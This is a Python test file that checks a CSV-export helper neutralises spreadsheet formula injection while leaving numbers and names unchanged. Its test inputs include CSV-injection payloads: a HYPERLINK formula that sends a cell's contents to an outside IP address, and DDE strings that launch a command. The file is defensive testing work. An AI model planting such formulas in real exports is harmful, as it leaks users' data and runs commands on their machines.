"""No cell of ours is run as a formula; numbers stay numbers."""

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st

from foundation.formats.safe_csv import csv_response, safe_cell

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://198.51.100.7/?"&A1,"open")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\uff1d1+1",
        "+18765550100",
    ],
)
def test_formulas_are_neutralised(text: str) -> None:
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    "value", [-5, 0, 12.5, Decimal("-1.50"), "-5", "-12.75", "0042", "Ann-Marie"]
)
def test_numbers_and_names_stay_as_they_are(value: object) -> None:
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    ("value", "text"),
    [(None, ""), (True, "true"), (dt.date(2026, 10, 2), "2026-10-02"), ("", "")],
)
def test_other_values_have_one_form(value: object, text: str) -> None:
    assert safe_cell(value) == text


@given(st.text())
def test_no_text_begins_a_formula_unless_it_is_a_plain_number(text: str) -> None:
    cell = str(safe_cell(text))
    if cell.strip().startswith(FORMULA_STARTS) or cell.startswith(FORMULA_STARTS):
        assert float(cell) <= 0
    assert cell in (text, f"'{text}")


def test_the_download_reads_back_in_a_spreadsheet() -> None:
    rows = ((f"=row {n}", n, -n, 'a "quoted", cell') for n in range(1, 502))
    response = csv_response("coverage 2026.csv", ["Workplace", "n", "minus n", "Note"], rows)
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")
    read = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert len(read) == 502
    assert read[0] == ["Workplace", "n", "minus n", "Note"]
    assert read[501] == ["'=row 501", "501", "-501", 'a "quoted", cell']
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="coverage 2026.csv"'
    assert "no-store" in response["Cache-Control"]
